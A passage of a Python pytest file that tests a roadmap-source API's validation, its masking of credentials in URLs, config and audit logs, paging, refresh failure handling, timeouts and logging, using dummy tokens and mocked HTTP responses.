    listed = client.get("/api/v1/roadmap/sources", headers=headers).json()["items"]
    for source in listed:
        source.pop("staleness_seconds")  # grows with the clock
    with Session(engine) as s:
        audited = len(s.exec(select(AuditLog)).all())
    return listed, audited


def _refused(r) -> list[tuple[str, str]]:
    """(path, type) of each mistake of a 422, after checking its shape is the usual one."""
    assert r.status_code == 422, r.text
    error = r.json()["error"]
    assert error["code"] == "invalid_request"
    details = error["details"]
    assert error["message"].startswith(f"{details[0]['path']}: ")
    if len(details) > 1:
        assert error["message"].endswith(f"(and {len(details) - 1} more)")
    assert all(set(d) == {"loc", "path", "msg", "type"} for d in details)
    # FastAPI's own list beside it, located from the body as FastAPI locates them.
    assert [e["loc"] for e in r.json()["detail"]] == [["body", *d["loc"]] for d in details]
    return [(d["path"], d["type"]) for d in details]


@pytest.mark.parametrize(
    ("config", "config_errors"),
    [
        ({}, [("config.url", "missing")]),  # a generic HTTP source without a url
        ({"url": URL, "auth_evn": "X"}, [("config.auth_evn", "extra_forbidden")]),
        ({"url": URL, "api_key": "LIVE-1"}, [("config.api_key", "secret_in_config")]),
        ({"url": URL + "?token=LIVE-1"}, [("config.url", "secret_in_url")]),
    ],
)
def test_a_create_with_a_misspelt_availability_and_a_config_mistake_is_one_422(
    client, api_key, engine, config, config_errors
):
    revops = api_key("revops")
    before = _sources_state(client, revops, engine)
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "acme", "kind": "http", "config": config,
              "status_mapping": {"GA": "availble", "Planned": "coming_soon"}},
        headers=revops,
    )  # fmt: skip
    assert _refused(r) == [*config_errors, ("status_mapping.GA", "enum")]
    assert r.json()["error"]["details"][-1]["msg"].endswith("; did you mean 'available'?")
    assert "LIVE-1" not in r.text
    assert _sources_state(client, revops, engine) == before


@pytest.mark.parametrize(
    ("kind", "config", "path", "says"),
    [
        # the API's URL pasted for the site's: every request went to .../rest/api/3/rest/...
        ("jira", {"base_url": "https://acme.atlassian.net/rest/api/3"}, "config.base_url",
         "without the API's path (/rest/..., which the connector adds): https://acme.atlassian.net"),
        ("jira", {"base_url": "https://jira.corp.example/jira/rest/api/2/search"},
         "config.base_url", ": https://jira.corp.example/jira"),  # a context path stays
        ("productboard", {"base_url": "https://api.productboard.com/v2"}, "config.base_url",
         "(/v1 or /v2, which the connector adds): https://api.productboard.com"),
        ("jira", {"base_url": "acme.atlassian.net"}, "config.base_url",
         "an http or https URL, its scheme included"),
        ("jira", {"target_date_field": "Target end"}, "config.target_date_field",
         "a Jira field id (duedate, labels, fixVersions, customfield_10015), not the field's"),
        ("jira", {"target_date_field": "cf[10015]"}, "config.target_date_field",
         "cf[10015] is how JQL names it; its field id is customfield_10015"),
        # Jira Cloud removed the Server / Data Center search: every refresh answered 410 Gone
        ("jira", {"api": "server"}, "config.api",
         'acme.atlassian.net is Jira Cloud, which answers the Server / Data Center search'),
    ],
)  # fmt: skip
def test_a_source_url_or_field_written_the_wrong_way_is_a_422_saying_what_to_write(
    client, api_key, kind, config, path, says
):
    base = {"base_url": "https://acme.atlassian.net", "jql": "project = ROAD"}
    body = {
        "name": "acme",
        "kind": kind,
        "config": {
            **({} if kind == "productboard" else base),
            "token_env": "ROADMAP_SOURCE_T",
            **config,
        },
    }
    r = client.post("/api/v1/roadmap/sources", json=body, headers=api_key("revops"))
    assert [p for p, _ in _refused(r)] == [path]
    assert says in r.json()["error"]["details"][0]["msg"]


def test_a_create_lists_name_kind_config_and_mapping_mistakes_together(client, api_key, engine):
    revops = api_key("revops")
    before = _sources_state(client, revops, engine)
    # Name, config and mapping: the kind is valid, so its config is checked too.
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "Bad Name", "kind": "jira", "config": {"base_url": URL},
              "status_mapping": {"Done": "shipped", "done ": "available", " ": "beta"},
              "colour": "red"},
        headers=revops,
    )  # fmt: skip
    assert _refused(r) == [
        ("name", "string_pattern_mismatch"),
        ("config.jql", "missing"),
        ("config.token_env", "missing"),
        ("status_mapping.Done", "enum"),
        ("status_mapping. ", "blank_status"),
        ("colour", "extra_forbidden"),
    ]
    # A misspelt kind: which config model applies is unknown, so the config is not judged;
    # the mapping still is, and so is every other field.
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "acme", "kind": "htp", "enabled": "perhaps", "config": {"urll": URL},
              "status_mapping": {"GA": "available", "ga": "never", "Beta": "betta"}},
        headers=revops,
    )  # fmt: skip
    assert _refused(r) == [
        ("kind", "literal_error"),
        ("enabled", "bool_parsing"),
        ("status_mapping.Beta", "enum"),
        ("status_mapping.ga", "conflicting_status"),
    ]
    assert "did you mean 'http'?" in r.json()["error"]["details"][0]["msg"]
    # A config that is not an object is one mistake, not also every key its model requires.
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "acme", "kind": "http", "config": [URL], "status_mapping": {"GA": "x"}},
        headers=revops,
    )
    assert _refused(r) == [("config", "dict_type"), ("status_mapping.GA", "enum")]
    for body in ([], "acme", None):
        r = client.post("/api/v1/roadmap/sources", json=body, headers=revops)
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_request", body
    assert _sources_state(client, revops, engine) == before
    # The same body without its mistakes is stored.
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "acme", "kind": "http", "config": {"url": URL},
              "status_mapping": {"GA": "available"}},
        headers=revops,
    )  # fmt: skip
    assert r.status_code == 201, r.text


def test_an_edit_checks_its_config_against_the_stored_kind_with_every_other_mistake(
    client, api_key, engine, mock_api
):
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    before = _sources_state(client, revops, engine)
    features = _availability(engine)
    # A Jira config on an HTTP source: judged as the stored kind's (http) config.
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"enabled": "no way", "config": {"base_url": URL, "jql": "project = X"},
              "status_mapping": {"GA": "availabel", "Planned": "beta", "planned": "never"},
              "kind": "jira"},
        headers=revops,
    )  # fmt: skip
    assert _refused(r) == [
        ("enabled", "bool_parsing"),
        ("config.url", "missing"),
        ("config.base_url", "extra_forbidden"),
        ("config.jql", "extra_forbidden"),
        ("status_mapping.GA", "enum"),
        ("status_mapping.planned", "conflicting_status"),
        ("kind", "extra_forbidden"),  # a source's kind is not edited
    ]
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"config": {}, "status_mapping": {"GA": "x"}},
        headers=revops,
    )
    assert _refused(r) == [("config.url", "missing"), ("status_mapping.GA", "enum")]
    assert _sources_state(client, revops, engine) == before
    assert _availability(engine) == features  # nothing re-mapped
    # No config in the edit: the stored one is not judged again, the mapping alone is.
    r = client.patch(
        "/api/v1/roadmap/sources/acme", json={"status_mapping": {"GA": "x"}}, headers=revops
    )
    assert _refused(r) == [("status_mapping.GA", "enum")]
    # The source must exist before its kind can judge the config: 404, and 409 for the registry.
    r = client.patch("/api/v1/roadmap/sources/nope", json={"config": {}}, headers=revops)
    assert r.status_code == 404
    r = client.patch("/api/v1/roadmap/sources/registry", json={"config": {}}, headers=revops)
    assert r.status_code == 409
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"config": {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"},
              "status_mapping": {"GA": "beta"}},
        headers=revops,
    )  # fmt: skip
    assert r.status_code == 200, r.text
    assert r.json()["features_remapped"] == 1 and _availability(engine) == {"sso": "beta"}


def test_source_bodies_are_still_documented_in_openapi(client):
    """The routes read their bodies themselves (to list every mistake at once); the OpenAPI
    document still describes them as the models do."""
    spec = client.get("/openapi.json").json()

    def resolved(schema):
        while "$ref" in schema:
            schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
        return schema

    create = spec["paths"]["/api/v1/roadmap/sources"]["post"]["requestBody"]
    schema = resolved(create["content"]["application/json"]["schema"])
    assert create["required"] is True and schema["required"] == ["name", "kind"]
    assert schema["additionalProperties"] is False
    mapping = schema["properties"]["status_mapping"]["anyOf"][0]["additionalProperties"]
    assert "coming_soon" in resolved(mapping)["enum"]
    edit = spec["paths"]["/api/v1/roadmap/sources/{name}"]["patch"]["requestBody"]
    assert set(resolved(edit["content"]["application/json"]["schema"])["properties"]) == {
        "enabled",
        "config",
        "status_mapping",
    }


def test_removal_limits_are_validated_config(client, api_key):
    r = client.post(
        "/api/v1/roadmap/sources",
        json={
            "name": "acme",
            "kind": "http",
            "config": {"url": URL, "max_removed_share": 1.5, "removals_always_allowed": -1},
        },
        headers=api_key("revops"),
    )
    assert r.status_code == 422
    paths = {d["path"] for d in r.json()["error"]["details"]}
    assert paths == {"config.max_removed_share", "config.removals_always_allowed"}


def test_cli_accept_removals(sqlite_engine, monkeypatch, capsys, mock_api):
    from app.cli import main
    from app.services.roadmap_sources import SourceCreate, create_source
    from app.settings import get_settings

    with Session(sqlite_engine) as s:
        create_source(s, SourceCreate(name="acme", kind="http", config={"url": URL}), actor="t")
        s.commit()
    mock_api.get(URL).side_effect = [
        httpx.Response(200, json=_page(*_features(3))),
        httpx.Response(200, json=_page()),
        httpx.Response(200, json=_page()),
    ]
    monkeypatch.setenv("DATABASE_URL", sqlite_engine.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    try:
        assert main(["roadmap", "refresh", "--source", "acme"]) == 0
        assert main(["roadmap", "refresh", "--source", "acme"]) == 1
        assert main(["roadmap", "refresh", "--accept-removals"]) == 2  # one source at a time
        assert main(["roadmap", "refresh", "--source", "acme", "--accept-removals"]) == 0
    finally:
        get_settings.cache_clear()
    out = capsys.readouterr().out
    assert "acme: FAILED, last good catalog kept: acme: refused" in out
    assert "3 removed" in out and "removals beyond the source's limit accepted" in out
    entry = _refresh_entries(sqlite_engine)[-1]
    from app.cli import _actor

    # the OS user who ran it, as every CLI command records (was a bare "cli")
    assert entry.actor == _actor() and entry.after["removals_accepted"] is True


# --- secrets in the source URL -------------------------------------------------------------------


def test_a_url_with_a_secret_is_refused_with_its_field_and_nothing_is_stored(client, api_key):
    revops = api_key("revops")
    for url, path in (
        ("https://roadmap.example.com/features?api_key=LIVE-123", "config.url"),
        ("https://user:pw@roadmap.example.com/features", "config.url"),
    ):
        r = client.post(
            "/api/v1/roadmap/sources",
            json={"name": "acme", "kind": "http", "config": {"url": url}},
            headers=revops,
        )
        assert r.status_code == 422, r.text
        details = r.json()["error"]["details"]
        assert [(d["path"], d["type"]) for d in details] == [(path, "secret_in_url")]
        assert "LIVE-123" not in r.text and "pw@" not in r.text
    _source(client, revops)
    r = client.patch(
        "/api/v1/roadmap/sources/acme",
        json={"config": {"url": URL + "?token=abc"}},
        headers=revops,
    )
    assert r.status_code == 422 and r.json()["error"]["details"][0]["path"] == "config.url"
    listed = client.get("/api/v1/roadmap/sources", headers=api_key("viewer")).text
    assert "LIVE-123" not in listed and "token=abc" not in listed


@pytest.mark.parametrize(
    "scheme",
    ["sk_live_abc123DEF456", "Bearer abc123def456", "Bearer:abc123def456", "Token\u00a0abc123",
     "abc123def456ghi789", "Abcdefghijklmnopqrstu", "Bearer\tq9Zk2Lm"],
)  # fmt: skip
def test_a_token_pasted_into_auth_scheme_is_refused_and_never_shown(client, api_key, scheme):
    """auth_scheme took anything without a space up to 64 characters ('sk_live_...'), stored
    it and showed it to every reader; it is the scheme word only, the token lives in the
    environment variable auth_env names."""
    revops = api_key("revops")
    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": scheme}
    r = client.post(
        "/api/v1/roadmap/sources",
        json={"name": "acme", "kind": "http", "config": config},
        headers=revops,
    )
    assert r.status_code == 422, r.text
    error = r.json()["error"]
    assert [(d["path"], d["type"]) for d in error["details"]] == [
        ("config.auth_scheme", "secret_in_config")
    ]
    assert error["message"].startswith("config.auth_scheme: auth_scheme is the scheme word only")
    assert "auth_env" in error["message"]
    assert scheme.split()[-1] not in r.text
    assert client.get("/api/v1/roadmap/sources/acme", headers=revops).status_code == 404
    _source(client, revops)
    r = client.patch("/api/v1/roadmap/sources/acme", json={"config": config}, headers=revops)
    assert r.status_code == 422, r.text
    assert [d["path"] for d in r.json()["error"]["details"]] == ["config.auth_scheme"]
    listed = client.get("/api/v1/roadmap/sources", headers=api_key("viewer")).text
    assert scheme.split()[-1] not in listed


def test_a_scheme_word_is_accepted_as_auth_scheme(client, api_key):
    revops = api_key("revops")
    _source(client, revops)
    for scheme in ("Bearer", "Token", "Basic", "Api-Key", "SSWS", "", "Abcdefghijklmnopqrst"):
        config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": scheme}
        r = client.patch("/api/v1/roadmap/sources/acme", json={"config": config}, headers=revops)
        assert r.status_code == 200, (scheme, r.text)
        assert r.json()["source"]["config"]["auth_scheme"] == scheme


def test_an_auth_scheme_stored_with_a_token_before_the_check_is_not_shown(
    client, api_key, engine, mock_api
):
    """Shown as ***, with a warning; and the connector's model, where the rule lives, refuses
    it too: its refresh failed to notice (it sent the pasted token), now it fails saying why,
    without the token."""
    from app.db import session_scope
    from app.models import RoadmapSource

    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": "sk_live_abc123"}
    with session_scope(engine) as s:
        s.add(RoadmapSource(name="old", kind="http", config=config, status_mapping={}))
    r = client.get("/api/v1/roadmap/sources/old", headers=api_key("viewer"))
    assert "sk_live_abc123" not in r.text
    body = r.json()
    assert body["config"]["auth_scheme"] == "***"
    warning = next(w for w in body["warnings"] if w.startswith("config.auth_scheme: stored with"))
    assert "refreshes fail until it is replaced" in warning
    assert (
        "sk_live_abc123"
        not in client.get("/api/v1/roadmap/sources", headers=api_key("viewer")).text
    )

    fetched = mock_api.get(URL).mock(return_value=httpx.Response(200, json=_page()))
    r = client.post("/api/v1/roadmap/sources/old/refresh", headers=api_key("revops"))
    assert r.status_code == 200 and not r.json()["ok"], r.text
    assert "config.auth_scheme: auth_scheme is the scheme word only" in r.json()["error"]
    assert not fetched.called and "sk_live_abc123" not in r.text
    r = client.get("/api/v1/roadmap/sources/old", headers=api_key("viewer"))
    assert "config.auth_scheme" in r.json()["last_error"] and "sk_live_abc123" not in r.text


def test_replacing_an_auth_scheme_stored_with_a_token_does_not_copy_it_into_the_audit_log(
    client, api_key, engine
):
    """The fix RevOps make (replacing the config) recorded the old config, token and all, as
    the entry's `before`, for every audit reader; the log keeps it as readers are shown it.
    The same for deleting such a source."""
    from app.db import session_scope
    from app.models import RoadmapSource

    config = {"url": URL, "auth_env": "ROADMAP_SOURCE_ACME_TOKEN", "auth_scheme": "sk_live_abc123"}
    with session_scope(engine) as s:
        s.add(RoadmapSource(name="old", kind="http", config=config, status_mapping={}))
        s.add(RoadmapSource(name="older", kind="http", config=config, status_mapping={}))
    revops = api_key("revops")
    fixed = {**config, "auth_scheme": "Bearer"}
    r = client.patch("/api/v1/roadmap/sources/old", json={"config": fixed}, headers=revops)
    assert r.status_code == 200, r.text
    assert client.delete("/api/v1/roadmap/sources/older", headers=revops).status_code == 200
    r = client.get("/api/v1/audit?entity_type=roadmap_source", headers=api_key("engineering"))
    assert r.status_code == 200 and "sk_live_abc123" not in r.text
    entries = {e["action"]: e for e in r.json()["items"]}
    update = entries["roadmap_source.update"]
    assert update["before"]["config"]["auth_scheme"] == "***"
    assert update["before"]["config"]["auth_env"] == "ROADMAP_SOURCE_ACME_TOKEN"  # no secret: kept
    assert update["after"]["config"]["auth_scheme"] == "Bearer"
    assert entries["roadmap_source.delete"]["before"]["config"]["auth_scheme"] == "***"


def test_a_status_mapping_is_bounded_in_entries_and_name_length(client, api_key):
    """A status mapping took any number of statuses of any length (stored, shown to every
    reader, copied into every edit's audit entry): at most 1,000, each at most 128 characters
    (a feature's stored status: a longer name, once allowed up to 200, could never match one),
    with a 422 naming the entry."""
    revops = api_key("revops")
    too_many = {f"S{i}": "beta" for i in range(1001)}
    long_name = "Q" * 129
    for mapping, expected in (
        (too_many, [("status_mapping.S1000", "too_long")]),
        ({"GA": "available", long_name: "beta"}, [("status_mapping." + "Q" * 60 + "...", "string_too_long")]),
    ):  # fmt: skip
        r = client.post(
            "/api/v1/roadmap/sources",
            json={
                "name": "acme",
                "kind": "http",
                "config": {"url": URL},
                "status_mapping": mapping,
            },
            headers=revops,
        )
        assert r.status_code == 422, r.text[:300]
        details = r.json()["error"]["details"]
        assert [(d["path"], d["type"]) for d in details] == expected
        assert client.get("/api/v1/roadmap/sources/acme", headers=revops).status_code == 404
    assert (
        "1001"
        in client.post(
            "/api/v1/roadmap/sources",
            json={
                "name": "acme",
                "kind": "http",
                "config": {"url": URL},
                "status_mapping": too_many,
            },
            headers=revops,
        ).json()["error"]["message"]
    )
    _source(client, revops)
    r = client.patch(
        "/api/v1/roadmap/sources/acme", json={"status_mapping": too_many}, headers=revops
    )
    assert r.status_code == 422
    assert r.json()["error"]["details"][0]["path"] == "status_mapping.S1000"
    at_most = {f"S{i}": "beta" for i in range(999)} | {"Q" * 128: "never"}
    r = client.patch(
        "/api/v1/roadmap/sources/acme", json={"status_mapping": at_most}, headers=revops
    )
    assert r.status_code == 200, r.text[:300]
    assert len(r.json()["source"]["status_mapping"]) == 1000


# --- the staleness gauge reads the database -------------------------------------------------


def test_staleness_gauge_reports_the_databases_last_success_in_every_process(
    client, api_key, engine
):
    """Worker A refreshed two hours ago; worker B has refreshed since (the row says a minute
    ago). A's gauge must say a minute too, not the age of what A itself last saw."""
    from datetime import timedelta

    from app.db import session_scope
    from app.models import RoadmapSource, utcnow
    from app.services import roadmap_refresh

    _source(client, api_key("revops"))
    seen_by_a = _source_row(engine)
    seen_by_a.last_success_at = utcnow() - timedelta(hours=2)
    with session_scope(engine) as s:  # what worker B wrote
        s.get(RoadmapSource, "acme").last_success_at = utcnow() - timedelta(minutes=1)
    roadmap_refresh.report_staleness(seen_by_a, engine=engine)
    assert 55 <= _gauge("acme") <= 600

    with session_scope(engine) as s:  # B again, later: A follows after the cache's short life
        s.get(RoadmapSource, "acme").last_success_at = utcnow() - timedelta(seconds=5)
    roadmap_refresh._last_successes._read_at = None  # the cache's few seconds have passed
    assert 0 <= _gauge("acme") <= 60


def test_a_url_stored_with_a_secret_before_the_check_is_shown_without_it(client, api_key, engine):
    from app.db import session_scope
    from app.models import RoadmapSource

    with session_scope(engine) as s:
        s.add(
            RoadmapSource(
                name="old",
                kind="http",
                config={"url": "https://u:pw@roadmap.example.com/f?team=a&api_key=LIVE-123"},
                status_mapping={},
            )
        )
    r = client.get("/api/v1/roadmap/sources/old", headers=api_key("viewer"))
    assert "LIVE-123" not in r.text and "pw@" not in r.text
    body = r.json()
    assert body["config"]["url"] == "https://roadmap.example.com/f?team=a&api_key=***"
    assert any(w.startswith("config.url: stored with a credential") for w in body["warnings"])
    result = client.post("/api/v1/roadmap/sources/old/refresh", headers=api_key("revops")).json()
    assert result["ok"] is False and "LIVE-123" not in result["error"]


def test_a_refused_removal_is_accepted_through_the_api_and_audited(
    client, api_key, engine, mock_api
):
    """An empty answer would remove every feature of the source: refused (the catalog kept),
    then stored when RevOps says the removal is real (?accept_removals=true)."""
    revops = api_key("revops", name="alice")
    _source(client, revops)
    mock_api.get(URL).side_effect = [
        httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"},
                                       {"key": "scim", "name": "SCIM", "status": "GA"})),
        httpx.Response(200, json=_page()),
        httpx.Response(200, json=_page()),
    ]  # fmt: skip
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert r["ok"] is True and r["created"] == 2, r
    refused = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    assert refused["ok"] is False and "accept_removals=true" in refused["error"]
    assert len(_availability(engine)) == 2  # the last good catalog
    accepted = client.post(
        "/api/v1/roadmap/sources/acme/refresh?accept_removals=true", headers=revops
    ).json()
    assert accepted["ok"] is True and accepted["deleted"] == 2
    assert accepted["removals_accepted"] is True
    assert _availability(engine) == {}
    entry = _refresh_entries(engine)[-1]
    assert entry.actor == "revops:alice" and entry.after.get("removals_accepted") is True


def test_a_failure_while_storing_is_recorded_keeps_the_catalog_and_spares_the_other_sources(
    client, api_key, engine, settings, mock_api, monkeypatch
):
    """Anything that goes wrong after the fetch (here the fan-out, as a 600-character alias
    once did through the matcher) rolls the write back, is recorded on the source like a
    failed fetch, and the schedule goes on to the next source."""
    from app.jobs.schedules import JobContext, load_schedules
    from app.services import roadmap_refresh

    revops = api_key("revops")
    _source(client, revops, name="a-bad", config={"url": "https://bad.example.com/f"})
    _source(client, revops)
    mock_api.get("https://bad.example.com/f").mock(
        return_value=httpx.Response(
            200, json=_page({"key": "scim", "name": "SCIM", "status": "GA"})
        )
    )
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
    )
    real = roadmap_refresh.fan_out

    def fan_out(session, scope):
        if "scim" in scope.feature_keys:
            raise RuntimeError("boom")
        return real(session, scope)

    monkeypatch.setattr(roadmap_refresh, "fan_out", fan_out)
    r = client.post("/api/v1/roadmap/sources/a-bad/refresh", headers=revops)
    assert r.status_code == 200, r.text
    assert (r.json()["ok"], r.json()["error"]) == (
        False,
        "a-bad: unexpected RuntimeError while storing: boom",
    )
    state = load_schedules()["roadmap_refresh"].run(
        JobContext(engine=engine, settings=settings, connectors={})
    )
    assert state == {"last": {"a-bad": "error", "acme": "ok"}}
    with Session(engine) as s:
        assert s.get(FeatureRow, "scim") is None  # nothing of a-bad's catalog was written
        assert s.get(FeatureRow, "sso") is not None
    source = client.get("/api/v1/roadmap/sources/a-bad", headers=revops).json()
    assert "while storing: boom" in source["last_error"] and source["last_refresh_at"]


def test_sources_are_listed_a_page_at_a_time_registry_first(client, api_key, engine):
    """GET /api/v1/roadmap/sources returned every source; it is paged with limit/offset like
    every other list, the built-in registry still first (row 0)."""
    revops = api_key("revops")
    for name in ("cc", "aa", "bb"):
        _source(client, revops, name=name)
    url = "/api/v1/roadmap/sources"

    def names(query: str) -> tuple[int, list[str]]:
        page = client.get(f"{url}?{query}", headers=api_key("viewer")).json()
        return page["total"], [s["name"] for s in page["items"]]

    assert names("") == (4, ["registry", "aa", "bb", "cc"])
    assert client.get(url, headers=revops).json()["limit"] == 50
    assert names("limit=1") == (4, ["registry"])
    assert names("limit=2") == (4, ["registry", "aa"])
    assert names("limit=2&offset=1") == (4, ["aa", "bb"])
    assert names("limit=2&offset=3") == (4, ["cc"])
    assert names("offset=4") == (4, [])
    pages = [names(f"limit=3&offset={o}")[1] for o in (0, 3)]
    assert pages == [["registry", "aa", "bb"], ["cc"]]
    for query, param in (("limit=0", "limit"), ("limit=501", "limit"),
                         ("offset=-1", "offset"), ("limit=ten", "limit")):  # fmt: skip
        r = client.get(f"{url}?{query}", headers=revops)
        assert r.status_code == 422, (query, r.text)
        assert r.json()["error"]["code"] == "invalid_request"
        assert [d["path"] for d in r.json()["error"]["details"]] == [f"query.{param}"]

    # a stored registry row (none is written today) is listed once, in name order
    from app.db import session_scope
    from app.models import RoadmapSource

    with session_scope(engine) as s:
        s.add(RoadmapSource(name="registry", kind="registry", config={}, status_mapping={}))
    assert names("") == (4, ["aa", "bb", "cc", "registry"])
    assert names("limit=2&offset=2") == (4, ["cc", "registry"])


def test_a_sources_statuses_are_listed_a_page_at_a_time(client, api_key, mock_api):
    revops = api_key("revops")
    _source(client, revops)
    statuses = [f"S{n:02d}" for n in range(12)]
    features = [{"key": f"k{n}", "name": f"K{n}", "status": s} for n, s in enumerate(statuses)]
    mock_api.get(URL).mock(return_value=httpx.Response(200, json=_page(*features)))
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    url = "/api/v1/roadmap/sources/acme/statuses"
    page = client.get(f"{url}?limit=5&offset=10", headers=revops).json()
    assert (page["total"], page["limit"], page["offset"]) == (12, 5, 10)
    assert [s["name"] for s in page["items"]] == ["S10", "S11"]
    assert [s["name"] for s in client.get(url, headers=revops).json()["items"]] == statuses
    r = client.get(f"{url}?limit=0", headers=revops)
    assert r.status_code == 422 and r.json()["error"]["details"][0]["path"] == "query.limit"


# --- what a source's answer may cost -------------------------------------------------------------


def test_a_source_dripping_its_answer_is_cut_off_at_timeout_seconds_and_the_catalog_kept(
    client, api_key, engine, monkeypatch
):
    """A server sending a byte at a time held the refresh route as long as it dripped: the
    source's timeout_seconds is a deadline for the whole answer."""
    from tests.connectors.roadmap._server import allow_hosts, serve

    allow_hosts(monkeypatch, "127.0.0.1")  # a local server: allowed explicitly
    revops = api_key("revops")
    with serve() as server:
        _source(client, revops, config={"url": server.url, "timeout_seconds": 0.5})
        server.body = json.dumps(_page({"key": "sso", "name": "SSO", "status": "GA"})).encode()
        assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
        server.body = json.dumps(_page()).encode() + b" " * 500
        server.byte_seconds = 0.02
        started = time.monotonic()
        r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
        elapsed = time.monotonic() - started
    assert r.status_code == 200 and elapsed < 1.5, elapsed
    expected = (
        f"acme: GET {server.url} timed out: no whole answer within config.timeout_seconds (0.5 s)"
    )
    assert (r.json()["ok"], r.json()["error"]) == (False, expected)
    assert _availability(engine) == {"sso": "available"}  # the last good catalog
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert source["last_error"] == expected and source["last_success_at"] is not None


def test_an_answer_past_the_size_limit_fails_the_refresh_naming_it_and_keeps_the_catalog(
    client, api_key, engine, mock_api, monkeypatch
):
    from app.connectors.roadmap import _http

    monkeypatch.setattr(_http, "MAX_ANSWER_BYTES", 2048, raising=False)
    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).side_effect = [
        httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"})),
        httpx.Response(200, json=_page(*({"key": f"k{n}", "name": "K"} for n in range(100)))),
    ]
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()
    expected = (
        f"acme: GET {URL} answered more than 2048 bytes, the most one answer (one page) may "
        "hold; refused"
    )
    assert (r["ok"], r["error"]) == (False, expected)
    assert _availability(engine) == {"sso": "available"}
    source = client.get("/api/v1/roadmap/sources/acme", headers=revops).json()
    assert source["last_error"] == expected


# --- a failing refresh is a warning in the logs ------------------------------------------------


@pytest.fixture
def warning_logs(client, settings):
    """JSON log lines at LOG_LEVEL=WARNING (after the app configured its own logging)."""
    import io

    from app.logging import configure_logging

    buffer = io.StringIO()
    configure_logging(
        settings.model_copy(update={"log_format": "json", "log_level": "WARNING"}), stream=buffer
    )
    yield lambda: [json.loads(line) for line in buffer.getvalue().splitlines()]
    configure_logging(settings)


def test_a_failing_refresh_is_logged_at_warning_a_good_one_at_info(
    client, api_key, engine, settings, mock_api, warning_logs, monkeypatch
):
    """Failed refreshes were info lines ("roadmap source refreshed", ok false): with
    LOG_LEVEL=WARNING a failing source was invisible. From the route and the schedule alike;
    a good refresh stays an info line."""
    from app.jobs.schedules import JobContext, load_schedules

    monkeypatch.setenv("ROADMAP_SOURCE_ACME_TOKEN", "tok-s3cr3t-value")
    revops = api_key("revops")
    _source(client, revops)
    broken = {"url": "https://down.example.com/f", "auth_env": "ROADMAP_SOURCE_ACME_TOKEN"}
    _source(client, revops, name="broken", config=broken)
    mock_api.get(URL).mock(
        return_value=httpx.Response(200, json=_page({"key": "sso", "name": "SSO", "status": "GA"}))
    )
    mock_api.get("https://down.example.com/f").mock(  # an upstream echoing the token
        return_value=httpx.Response(401, text="invalid token tok-s3cr3t-value")
    )
    assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    r = client.post("/api/v1/roadmap/sources/broken/refresh", headers=revops).json()
    assert r["ok"] is False and "HTTP 401" in r["error"]
    job = load_schedules()["roadmap_refresh"]
    job.run(JobContext(engine=engine, settings=settings, connectors={}))

    lines = [e for e in warning_logs() if e.get("logger") == "app.services.roadmap_refresh"]
    event = "roadmap source refresh failed, last good catalog kept"
    assert [(e["level"], e["event"], e["source"], e["error"]) for e in lines] == [
        ("warning", event, "broken", r["error"]),
        ("warning", event, "broken", r["error"]),
    ]
    assert [e["actor"] for e in lines] == ["revops:test-revops", "system:roadmap-refresh"]
    assert "tok-s3cr3t-value" not in json.dumps(lines)


def test_a_good_refresh_is_an_info_line(client, api_key, settings, mock_api):
    import io

    from app.logging import configure_logging

    revops = api_key("revops")
    _source(client, revops)
    mock_api.get(URL).mock(return_value=httpx.Response(200, json=_page()))
    buffer = io.StringIO()
    configure_logging(settings.model_copy(update={"log_format": "json"}), stream=buffer)
    try:
        assert client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops).json()["ok"]
    finally:
        configure_logging(settings)
    lines = [json.loads(line) for line in buffer.getvalue().splitlines()]
    [line] = [e for e in lines if e.get("logger") == "app.services.roadmap_refresh"]
    assert (line["level"], line["event"], line["source"], line["ok"]) == (
        "info",
        "roadmap source refreshed",
        "acme",
        True,
    )


# --- `roadmap-guard roadmap refresh`: logs as configured on stderr, a progress bar, stdout -----


@pytest.fixture
def cli_env(sqlite_engine, monkeypatch):
    """The CLI against `sqlite_engine`; logging put back as the tests have it afterwards."""
    from app.logging import configure_logging
    from app.settings import Settings, get_settings

    monkeypatch.setenv("DATABASE_URL", sqlite_engine.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    yield monkeypatch
    get_settings.cache_clear()
    configure_logging(Settings(_env_file=None, log_format="console"))


def _cli_sources(engine, mock_api):
    from app.services.roadmap_sources import SourceCreate, create_source

    with Session(engine) as s:
